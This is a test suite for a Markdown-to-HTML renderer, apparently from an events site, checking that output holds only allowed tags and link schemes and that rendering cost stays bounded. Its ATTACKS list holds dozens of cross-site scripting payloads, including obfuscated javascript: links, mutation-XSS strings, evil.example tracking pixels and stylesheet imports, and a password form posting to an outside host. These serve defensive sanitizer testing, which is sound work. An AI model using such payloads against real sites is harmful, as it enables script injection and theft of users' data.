"""Markdown becomes HTML that is safe whatever was written, costs little, and shows nothing from elsewhere."""

import re
import sys
from collections.abc import Callable
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from common.markdown import plain, render

PLAIN_TAGS = ["p", "br", "hr", "h3", "h4", "h5", "h6", "strong", "em", "s", "blockquote", "ul", "li", "code", "pre"]
ALLOWED: dict[str, set[str]] = {tag: set() for tag in (*PLAIN_TAGS, "table", "thead", "tbody", "tr")} | {
    "th": {"class"},
    "td": {"class"},
    "a": {"href", "title", "rel"},
    "img": {"src", "alt", "title", "loading"},
    "ol": {"start"},
}
CLASSES = {"align-start", "align-center", "align-end"}
LONGEST = 20_000


class Seen(HTMLParser):
    """Every tag with its attributes, as a browser reads them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.others: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def note(self, data: str) -> None:
        self.others.append(data)

    handle_comment = handle_decl = handle_pi = unknown_decl = note

    def of(self, tag: str) -> list[dict[str, str]]:
        return [attrs for name, attrs in self.tags if name == tag]


def wrong_in(html: str) -> list[Any]:
    """What is on the page and not on the list."""
    seen = Seen(html)
    wrong: list[Any] = list(seen.others)
    for tag, attrs in seen.tags:
        if tag not in ALLOWED or not attrs.keys() <= ALLOWED[tag]:
            wrong.append((tag, attrs))
        for name in attrs.keys() & {"href", "src"}:
            address = "".join(attrs[name].split()).lower()
            if ":" in re.split("[/?#]", address)[0] and not address.startswith(("http:", "https:", "mailto:", "tel:")):
                wrong.append((tag, name, attrs[name]))
        if tag == "img" and not attrs["src"].startswith(("/media/", "http://localhost:8000/media/")):
            wrong.append((tag, "loaded", attrs["src"]))
        if tag == "a" and attrs["rel"] != "nofollow ugc noopener":
            wrong.append((tag, "rel", attrs))
        if not set(attrs.get("class", "").split()) <= CLASSES:
            wrong.append((tag, "class", attrs))
    return wrong


ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img \x00src=x onerror\x00=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script>alert(1)&lt;/script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style=background:url(javascript:alert(1))>x</p>",
    "<link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content=0;url=//evil><base href=//e>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x",
    "<a href=javascript:alert(1)>x</a>",
    "<!--[if IE]><script>alert(1)</script><![endif]--><!DOCTYPE x><?php x ?><![CDATA[<script>x</script>]]>",
    "<details open ontoggle=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<div\n\n<b onclick=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<java script:alert(1)>)",
    "[x](java\tscript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&#x3a;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61script:alert(1))",
    "[x](jav&Tab;ascript:alert(1))",
    "[x](jav&NewLine;ascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](\u2028javascript:alert(1))",
    "[x](java\x00script:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](javascript://example.org/%0aalert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/png;base64,iVBORw0KGgo=)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.org/1)",
    "[x](feed:javascript:alert(1))",
    "[x](view-source:javascript:alert(1))",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x]\n\n[x]: <javascript:alert(1)> 'title'",
    '[x](https://example.org "a" onmouseover="alert(1)")',
    '[x](https://example.org/"onmouseover="alert(1))',
    "[x](https://example.org '\"><script>alert(1)</script>')",
    "[<script>alert(1)</script>](https://example.org)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    '![x" onerror="alert(1)](https://example.org/x.png)',
    "![x](https://evil.example/pixel.gif)",
    "![x](//evil.example/pixel.gif)",
    "![x](/\\evil.example/pixel.gif)",
    "![x](\\\\evil.example/pixel.gif)",
    "![x](/media//evil.example/pixel.gif)",
    "![x](/media/../accounts/logout/)",
    "![x](/media/%2e%2e/accounts/logout/)",
    "![x](https://localhost:8000@evil.example/media/x.png)",
    "![x](http://localhost:8000.evil.example/media/x.png)",
    "[![x](https://evil.example/pixel.gif)](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<java&#115;cript:alert(1)>",
    "<data:text/html,x>",
    '<https://example.org/"onclick=alert(1)>',
    'https://example.org/"onclick="alert(1)',
    "https://example.org/<script>alert(1)</script>",
    "www.example.org'onclick='alert(1)",
    "javascript:alert(1)//https://example.org",
    '```"><script>alert(1)</script>\nx\n```',
    "```x onclick=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "    </code></pre><script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "# <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<script\x00>alert(1)</script>",
    "\ud83d\ude00 <b",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_attack_leaves_nothing_but_harmless_tags(text: str) -> None:
    html = render(text)

    assert wrong_in(html) == []


def test_the_check_itself_sees_what_is_wrong() -> None:
    link = '<a href=" java\nscript:x" rel="nofollow ugc noopener">2</a>'
    bad = f'<p onclick="x">1</p><script></script>{link}<img src="//e">'

    assert [finding[0] for finding in wrong_in(bad)] == ["p", "script", "a", "img"]


MARKS = st.sampled_from(
    [
        *"<>[]()!`*_~|-#\n\t &;\"'\\=:/@",
        *("\n\n", "1. ", "&#58;", "\x00", "\u202e", "\ud800", "<!--", "<script>", "onerror="),
        *("javascript:", "data:", "https://", "://", "/media/", "www.", "@a.b"),
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.one_of(st.text(max_size=400), st.lists(st.one_of(MARKS, st.text(max_size=5)), max_size=60).map("".join)))
def test_any_text_gives_nothing_but_harmless_tags(text: str) -> None:
    assert wrong_in(render(text)) == []
    assert isinstance(plain(text), str)


def test_text_is_rendered_with_what_organizers_use() -> None:
    text = (
        "# Menu\n\nSoup and **bread**,\n~~wine~~ *water*.\n\n1. One\n2. Two\n\n"
        "| Dish | Price |\n|:-:|--:|\n| Soup | 4 |"
    )

    html = render(text)

    assert html == (
        "<h3>Menu</h3>\n<p>Soup and <strong>bread</strong>,<br>\n<s>wine</s> <em>water</em>.</p>\n"
        "<ol>\n<li>One</li>\n<li>Two</li>\n</ol>\n"
        "<table>\n<thead>\n"
        '<tr>\n<th class="align-center">Dish</th>\n<th class="align-end">Price</th>\n</tr>\n</thead>\n'
        '<tbody>\n<tr>\n<td class="align-center">Soup</td>\n<td class="align-end">4</td>\n</tr>\n</tbody>\n</table>'
    )


def test_headings_fit_under_the_page() -> None:
    html = render("# 1\n## 2\n### 3\n#### 4\n##### 5\n###### 6\n\nSetext\n===")

    assert [tag for tag, _ in Seen(html).tags] == ["h3", "h4", "h5", "h6", "h6", "h6", "h3"]


@pytest.mark.parametrize(
    ("text", "link"),
    [
        ("See https://a.example/x_(y).", ("https://a.example/x_(y)", "https://a.example/x_(y)")),
        ("(https://a.example/b)", ("https://a.example/b", "https://a.example/b")),
        ("at www.a.example!", ("https://www.a.example", "www.a.example")),
        ("mail ada.b+c@a-b.example, please", ("mailto:ada.b+c@a-b.example", "ada.b+c@a-b.example")),
        ("<https://a.example>", ("https://a.example", "https://a.example")),
        ("[call](tel:+331234)", ("tel:+331234", "call")),
        ("[here](/events/choir/)", ("/events/choir/", "here")),
        ("https://a.example/?q=1&r=2", ("https://a.example/?q=1&r=2", "https://a.example/?q=1&amp;r=2")),
    ],
)
def test_addresses_become_links(text: str, link: tuple[str, str]) -> None:
    html = render(text)

    href, words = link
    assert [attrs["href"] for attrs in Seen(html).of("a")] == [href]
    assert f">{words}</a>" in html


@pytest.mark.parametrize("text", ["`https://a.example`", "ahttps://a.example", "a@b", "x.www.a", "1@2", "file:///x"])
def test_other_words_stay_words(text: str) -> None:
    assert Seen(render(text)).of("a") == []


def test_a_link_holds_no_second_link() -> None:
    html = render("[https://a.example ![pic](https://evil.example/p.png)](https://b.example)")

    assert [attrs["href"] for attrs in Seen(html).of("a")] == ["https://b.example"]
    assert "pic" in html


def test_foreign_image_becomes_a_link() -> None:
    html = render("![The *hall*](https://pics.example/hall.jpg)")

    assert html == ('<p><a href="https://pics.example/hall.jpg" rel="nofollow ugc noopener">The hall</a></p>')


def test_image_of_a_host_that_is_named_is_shown(settings: Any) -> None:
    settings.DESCRIPTION_IMAGE_HOSTS = ["pics.example"]

    shown = render("![a](https://Pics.example/hall.jpg)")
    others = (
        "![b](http://pics.example/x) ![c](https://pics.example.evil/x) "
        "![d](https://u@pics.example/x) ![e](//pics.example/x)"
    )

    assert [attrs["src"] for attrs in Seen(shown).of("img")] == ["https://Pics.example/hall.jpg"]
    assert Seen(render(others)).of("img") == []


@pytest.mark.parametrize("src", ["/media/pictures/a-320.webp", "http://localhost:8000/media/pictures/a-320.webp"])
def test_own_image_is_shown(src: str) -> None:
    html = render(f"![Hall]({src})")

    assert Seen(html).of("img") == [{"src": src, "alt": "Hall", "loading": "lazy"}]


def operations(work: Callable[[], Any]) -> int:
    """How many functions were called: the same on every machine, however busy it is."""
    count = 0

    def note(frame: Any, event: str, argument: Any) -> None:
        nonlocal count
        count += event in {"call", "c_call"}

    sys.setprofile(note)
    try:
        work()
    finally:
        sys.setprofile(None)
    return count


COSTLY = {
    "brackets": "[",
    "images": "![",
    "links": "[](",
    "link in link": "[a](<",
    "quotes": ">",
    "spaced quotes": "> ",
    "quotes in lists": "- > ",
    "stars": "*",
    "emphasis": "*a **a ",
    "pairs": "_*",
    "strikes": "~~a",
    "backticks": "`a ",
    "angles": "<",
    "comments": "<!--",
    "entities": "&#",
    "lines": "a\n",
    "numbers": "1. ",
    "pipes": "|",
    "table": "a|b\n-|-\n",
    "addresses": "http://",
    "mails": "a.b@c.",
    "definitions": "[a]: b\n",
    "escapes": "\\",
    "nothing": "\x00",
}


@pytest.mark.parametrize("piece", COSTLY.values(), ids=COSTLY)
def test_costly_text_costs_in_proportion_to_its_length(piece: str) -> None:
    text = (piece * LONGEST)[:LONGEST]

    whole = operations(lambda: render(text))
    tenth = operations(lambda: render(text[: LONGEST // 10]))

    assert whole < 250 * LONGEST
    assert whole < 15 * tenth + 10_000


def test_deep_nesting_ends() -> None:
    lists = render("".join(f"{'  ' * depth}- a\n" for depth in range(140)))
    quotes = render("> " * 5_000 + "deep")

    assert lists.count("<ul>") <= 12
    assert quotes.count("<blockquote>") <= 12


def test_small_table_does_not_become_a_huge_page() -> None:
    wide = "|a" * 200 + "\n" + "|-" * 200 + "\n" + "a\n" * 9_000
    long = "a|b\n-|-\n" + "c\n" * 9_000

    assert len(render(wide)) < 4 * len(wide)
    assert len(render(long)) < 8 * len(long)
    assert "<table>" in render("a|b\n-|-\n" + "1|2\n" * 1_000)


def test_plain_is_the_text_without_its_marks() -> None:
    text = (
        "# Choir\n\nCome and **sing** with [us](https://a.example/x) or [here](/events/choir/),\nat www.b.example.\n\n"
        "- one\n  - two\n- three\n\n3. four\n\n> said\n\n| A | B |\n|---|---|\n| 1 | 2 |\n\n"
        "![The hall](https://pics.example/h.jpg)\n\n```\ncode\n```\n***\n\n<b>end</b>"
    )

    assert plain(text) == (
        "Choir\n\nCome and sing with us (https://a.example/x) or here (http://localhost:8000/events/choir/),\n"
        "at www.b.example.\n\n- one\n- two\n- three\n\n3. four\n\nsaid\n\nA | B\n1 | 2\n\n"
        "The hall (https://pics.example/h.jpg)\n\ncode\n\n<b>end</b>"
    )
